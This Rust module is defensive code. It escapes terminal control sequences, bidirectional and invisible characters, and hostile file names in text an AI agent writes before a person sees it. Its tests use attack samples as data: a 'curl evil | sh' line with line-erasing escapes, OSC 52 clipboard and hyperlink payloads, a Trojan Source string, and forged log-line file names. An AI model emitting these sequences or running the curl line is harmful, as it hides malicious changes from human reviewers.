//! Agent-written bytes made safe for a person's terminal.
//!
//! File contents, file names, executable names, hosts and request paths are
//! all chosen by the agent, and a terminal obeys what it is sent: `ESC[1A
//! ESC[2K` erases the line above (an added line vanishes from a diff), OSC 52
//! sets the clipboard, a carriage return lets the rest of a line overwrite its
//! start, a bidirectional override shows `rm -rf ~ # safe` backwards, and a
//! newline in a file name forges a whole line of `ws log`. So nothing the
//! agent wrote reaches a terminal as it is; two renderings:
//!
//! - [`text`], for content (a diff line, an executable, a host): printable
//!   characters and tabs as they are; a control byte as `\xNN` (newline and
//!   carriage return as `\n` and `\r`; ESC is `\x1b`, so no escape sequence —
//!   CSI, OSC, DCS — survives); a byte that is not UTF-8 as `\xNN`; a C1
//!   control, bidirectional or invisible formatting character as `\u{NNNN}`.
//!   A backslash stays as it is (code is full of them), so the form is for
//!   reading, not reversible: `--json` carries the exact bytes.
//! - [`name`], for file names: as git quotes paths (`core.quotePath`). A
//!   name holding a control byte, `"`, `\`, a byte that is not UTF-8 or one of
//!   the dangerous characters above is put in double quotes with C escapes
//!   (`\t \n \r \" \\`…) and octal (`\033`, `\342\200\256`) for the rest;
//!   other names, UTF-8 included, are shown as they are. The quoted form is
//!   reversible, so two names never look alike, and it never holds a newline,
//!   so one name never looks like two lines or another record.
//!
//! Both are idempotent on their own output's characters: [`message`] passes
//! a line already made of them unchanged, so `ui` can apply it to every
//! message as a last guard.

use std::fmt::Write as _;

/// A character a terminal would act on or hide rather than show: C1 controls
/// (0x9B is CSI to some terminals, 0x85 a newline), bidirectional embeddings,
/// overrides, isolates and marks, zero-width and other invisible formatting
/// characters, blank-looking fillers, and the tag characters used to smuggle
/// invisible text. Emoji variation selectors (U+FE00–U+FE0F) are left: they
/// only pick a glyph's style.
pub fn hidden(c: char) -> bool {
    matches!(
        c as u32,
        0x80..=0x9F
            | 0xAD
            | 0x34F
            | 0x61C
            | 0x115F
            | 0x1160
            | 0x17B4
            | 0x17B5
            | 0x180B..=0x180F
            | 0x200B..=0x200F
            | 0x2028..=0x202E
            | 0x2060..=0x206F
            | 0x3164
            | 0xFEFF
            | 0xFFA0
            | 0xFFF9..=0xFFFB
            | 0x1D173..=0x1D17A
            | 0xE0000..=0xE0FFF
    )
}

/// Content for a terminal line: see the module's documentation. Tabs stay;
/// the line's own end is the caller's, so a newline inside is shown as `\n`.
pub fn text(bytes: &[u8]) -> String {
    let mut out = String::with_capacity(bytes.len());
    for chunk in bytes.utf8_chunks() {
        for c in chunk.valid().chars() {
            push_text_char(&mut out, c);
        }
        for b in chunk.invalid() {
            let _ = write!(out, "\\x{b:02x}");
        }
    }
    out
}

fn push_text_char(out: &mut String, c: char) {
    match c {
        '\t' => out.push('\t'),
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        c if (c as u32) < 0x20 || c == '\u{7f}' => {
            let _ = write!(out, "\\x{:02x}", c as u32);
        }
        c if hidden(c) => {
            let _ = write!(out, "\\u{{{:04X}}}", c as u32);
        }
        c => out.push(c),
    }
}

/// A message that `ws` composed (its own words around names and content it
/// already rendered): each of its lines as [`text`], its line breaks kept.
pub fn message(msg: &str) -> String {
    if !msg.chars().any(|c| (c != '\n' && c != '\t' && ((c as u32) < 0x20 || c == '\u{7f}')) || hidden(c)) {
        return msg.to_owned();
    }
    msg.split('\n').map(|line| text(line.as_bytes())).collect::<Vec<_>>().join("\n")
}

/// A file name (or any path) as git quotes it: see the module's documentation.
pub fn name(bytes: &[u8]) -> String {
    let quote = match std::str::from_utf8(bytes) {
        Ok(s) => s.chars().any(|c| (c as u32) < 0x20 || c == '\u{7f}' || c == '"' || c == '\\' || hidden(c)),
        Err(_) => true,
    };
    if !quote {
        return String::from_utf8_lossy(bytes).into_owned();
    }
    let mut out = String::with_capacity(bytes.len() + 2);
    out.push('"');
    for chunk in bytes.utf8_chunks() {
        for c in chunk.valid().chars() {
            match c {
                '\u{7}' => out.push_str("\\a"),
                '\u{8}' => out.push_str("\\b"),
                '\t' => out.push_str("\\t"),
                '\n' => out.push_str("\\n"),
                '\u{b}' => out.push_str("\\v"),
                '\u{c}' => out.push_str("\\f"),
                '\r' => out.push_str("\\r"),
                '"' => out.push_str("\\\""),
                '\\' => out.push_str("\\\\"),
                c if (c as u32) < 0x20 || c == '\u{7f}' || hidden(c) => {
                    let mut buf = [0; 4];
                    for b in c.encode_utf8(&mut buf).bytes() {
                        let _ = write!(out, "\\{b:03o}");
                    }
                }
                c => out.push(c),
            }
        }
        for b in chunk.invalid() {
            let _ = write!(out, "\\{b:03o}");
        }
    }
    out.push('"');
    out
}

/// A path of this machine (`Path`, `PathBuf`) as [`name`] shows it.
pub fn path(p: &std::path::Path) -> String {
    name(std::os::unix::ffi::OsStrExt::as_bytes(p.as_os_str()))
}

/// A name shown after a prefix, quoted as a whole as git does (`"a/x\ny"`).
pub fn prefixed(prefix: &str, bytes: &[u8]) -> String {
    name(&[prefix.as_bytes(), bytes].concat())
}

/// `1234567` → `1,234,567`.
pub fn count(n: u64) -> String {
    let s = n.to_string();
    let mut out = String::new();
    for (i, c) in s.chars().enumerate() {
        if i > 0 && (s.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(c);
    }
    out
}

/// A size in bytes, in binary units (`3.0 MiB`).
pub fn bytes(n: u64) -> String {
    const UNITS: [&str; 5] = ["B", "KiB", "MiB", "GiB", "TiB"];
    let mut v = n as f64;
    let mut u = 0;
    while v >= 1024.0 && u < UNITS.len() - 1 {
        v /= 1024.0;
        u += 1;
    }
    if u == 0 { format!("{n} B") } else { format!("{v:.1} {}", UNITS[u]) }
}

/// A manifest entry's path as shown to people ([`name`]): directories end in `/`.
pub fn entry_name(e: &ws_snapshot::Entry) -> String {
    if e.stat.mode & 0o170000 == 0o040000 { name(&[e.path.as_bytes(), b"/"].concat()) } else { name(e.path.as_bytes()) }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    /// Git's unquoting: the inverse of `name`, to show it loses nothing.
    fn unquote(s: &str) -> Vec<u8> {
        let Some(inner) = s.strip_prefix('"').and_then(|s| s.strip_suffix('"')) else {
            return s.as_bytes().to_vec();
        };
        let b = inner.as_bytes();
        let mut out = Vec::new();
        let mut i = 0;
        while i < b.len() {
            if b[i] != b'\\' {
                out.push(b[i]);
                i += 1;
                continue;
            }
            let e = b[i + 1];
            i += 2;
            out.push(match e {
                b'a' => 7,
                b'b' => 8,
                b't' => b'\t',
                b'n' => b'\n',
                b'v' => 11,
                b'f' => 12,
                b'r' => b'\r',
                b'"' => b'"',
                b'\\' => b'\\',
                d => {
                    let oct = [d, b[i], b[i + 1]];
                    i += 2;
                    u8::from_str_radix(std::str::from_utf8(&oct).unwrap(), 8).unwrap()
                }
            });
        }
        out
    }

    /// What no rendering may contain: a control character (but `allowed`),
    /// DEL, a C1 control, or a hidden or bidirectional character.
    fn assert_inert(s: &str, allowed: &[char]) {
        for c in s.chars() {
            assert!(!(((c as u32) < 0x20 && !allowed.contains(&c)) || c == '\u{7f}' || hidden(c)), "{c:?} in {s:?}");
        }
    }

    #[test]
    fn escape_sequences_lose_their_escape() {
        // The issue's attack: an added line erased from the reviewer's screen.
        assert_eq!(text(b"curl evil | sh\x1b[2K\x1b[1A"), "curl evil | sh\\x1b[2K\\x1b[1A");
        // OSC 52 (clipboard) and OSC 8 (hyperlink), ended by BEL or ST.
        assert_eq!(text(b"\x1b]52;c;Y3VybA==\x07"), "\\x1b]52;c;Y3VybA==\\x07");
        assert_eq!(text(b"\x1b]8;;http://evil\x1b\\x\x1b]8;;\x1b\\"), "\\x1b]8;;http://evil\\x1b\\x\\x1b]8;;\\x1b\\");
        // DCS, and CSI through its 8-bit C1 form, as UTF-8 and as a raw byte.
        assert_eq!(text(b"\x1bP1$r\x1b\\"), "\\x1bP1$r\\x1b\\");
        assert_eq!(text("a\u{9b}2Kb".as_bytes()), "a\\u{009B}2Kb");
        assert_eq!(text(b"a\x9b2Kb"), "a\\x9b2Kb");
        assert_eq!(text(b"a\x90b\x9d"), "a\\x90b\\x9d");
    }

    #[test]
    fn control_bytes_and_del_are_shown() {
        assert_eq!(text(b"evil();\r// harmless"), "evil();\\r// harmless");
        assert_eq!(text(b"a\nb"), "a\\nb");
        assert_eq!(text(b"\x00\x01\x08\x7f"), "\\x00\\x01\\x08\\x7f");
        // A tab in content stays a tab.
        assert_eq!(text(b"\tindented\tcode"), "\tindented\tcode");
    }

    #[test]
    fn bidirectional_and_invisible_characters_are_shown() {
        let trojan = "if admin { \u{202E} } \u{2066}// check later\u{2069}";
        assert_eq!(text(trojan.as_bytes()), "if admin { \\u{202E} } \\u{2066}// check later\\u{2069}");
        for c in ['\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}', '\u{2067}', '\u{2068}', '\u{200E}', '\u{200F}']
            .into_iter()
            .chain(['\u{61C}', '\u{200B}', '\u{FEFF}', '\u{2028}', '\u{E0041}', '\u{AD}'])
        {
            let shown = text(c.to_string().as_bytes());
            assert_eq!(shown, format!("\\u{{{:04X}}}", c as u32));
        }
    }

    #[test]
    fn ordinary_text_and_unicode_are_unchanged() {
        for s in ["fn main() { println!(\"hi\\n\"); }", "naïve café — 日本語 🙂❤\u{FE0F}", "C:\\path\\x1b"] {
            assert_eq!(text(s.as_bytes()), s);
            assert_eq!(message(s), s);
        }
    }

    #[test]
    fn invalid_utf8_bytes_are_hex() {
        assert_eq!(text(b"ok\xff\xfe\xc3"), "ok\\xff\\xfe\\xc3");
    }

    #[test]
    fn names_are_quoted_as_git_quotes_them() {
        // The issue's attack: a newline in a name forged a `ws log` line.
        assert_eq!(name(b"x\nsrc/app.py written by vim"), "\"x\\nsrc/app.py written by vim\"");
        assert_eq!(name(b"a\tb"), "\"a\\tb\"");
        assert_eq!(name(b"say \"hi\""), "\"say \\\"hi\\\"\"");
        assert_eq!(name(b"back\\slash"), "\"back\\\\slash\"");
        assert_eq!(name(b"\x1b[2Kx"), "\"\\033[2Kx\"");
        assert_eq!(name(b"\x07\x08\x0b\x0c\r\x7f"), "\"\\a\\b\\v\\f\\r\\177\"");
        assert_eq!(name(b"x\xff"), "\"x\\377\"");
        assert_eq!(name(b"x\x9b"), "\"x\\233\"");
        assert_eq!(name("evil\u{202E}txt.sh".as_bytes()), "\"evil\\342\\200\\256txt.sh\"");
        assert_eq!(name("c1\u{85}".as_bytes()), "\"c1\\302\\205\"");
        // Plain names, spaces and UTF-8 included, as they are: git with
        // core.quotePath=false.
        assert_eq!(name(b"src/main.rs"), "src/main.rs");
        assert_eq!(name("docs/naïve notes.md".as_bytes()), "docs/naïve notes.md");
        assert_eq!(prefixed("a/", b"x\ny"), "\"a/x\\ny\"");
        assert_eq!(path(std::path::Path::new("/tmp/a\nb")), "\"/tmp/a\\nb\"");
    }

    #[test]
    fn messages_keep_their_lines_and_lose_the_rest() {
        assert_eq!(message("refusing:\n  a\u{1b}[2K (session x)\n  b"), "refusing:\n  a\\x1b[2K (session x)\n  b");
        // Already rendered names and text pass unchanged.
        let shown = format!("{} and {}", name(b"a\nb"), text(b"\x1b]52;c;x\x07"));
        assert_eq!(message(&shown), shown);
    }

    fn any_char() -> impl Strategy<Value = char> {
        prop_oneof![0u32..0x100, 0x200Au32..0x2070, 0xE0000u32..0xE0080, Just(0x61C), Just(0xFEFF), Just(0x1F642)]
            .prop_filter_map("a char", char::from_u32)
    }

    fn any_bytes() -> impl Strategy<Value = Vec<u8>> {
        prop_oneof![
            proptest::collection::vec(any::<u8>(), 0..40),
            proptest::collection::vec(any_char(), 0..20).prop_map(|cs| cs.into_iter().collect::<String>().into_bytes()),
        ]
    }

    proptest! {
        #[test]
        fn text_is_inert(bytes in any_bytes()) {
            let shown = text(&bytes);
            assert_inert(&shown, &['\t']);
            prop_assert_eq!(message(&shown), shown.clone());
        }

        #[test]
        fn names_are_inert_on_one_line_and_reversible(bytes in any_bytes()) {
            let shown = name(&bytes);
            assert_inert(&shown, &[]);
            prop_assert_eq!(unquote(&shown), bytes.clone());
            prop_assert_eq!(message(&shown), shown);
        }

        #[test]
        fn distinct_names_never_look_alike(a in any_bytes(), b in any_bytes()) {
            prop_assume!(a != b);
            prop_assert_ne!(name(&a), name(&b));
        }

        #[test]
        fn messages_keep_exactly_their_own_lines(lines in proptest::collection::vec(any_bytes(), 1..4)) {
            let msg = lines.iter().map(|l| String::from_utf8_lossy(l).replace('\n', " ")).collect::<Vec<_>>().join("\n");
            let shown = message(&msg);
            assert_inert(&shown, &['\t', '\n']);
            prop_assert_eq!(shown.split('\n').count(), msg.split('\n').count());
        }
    }
}
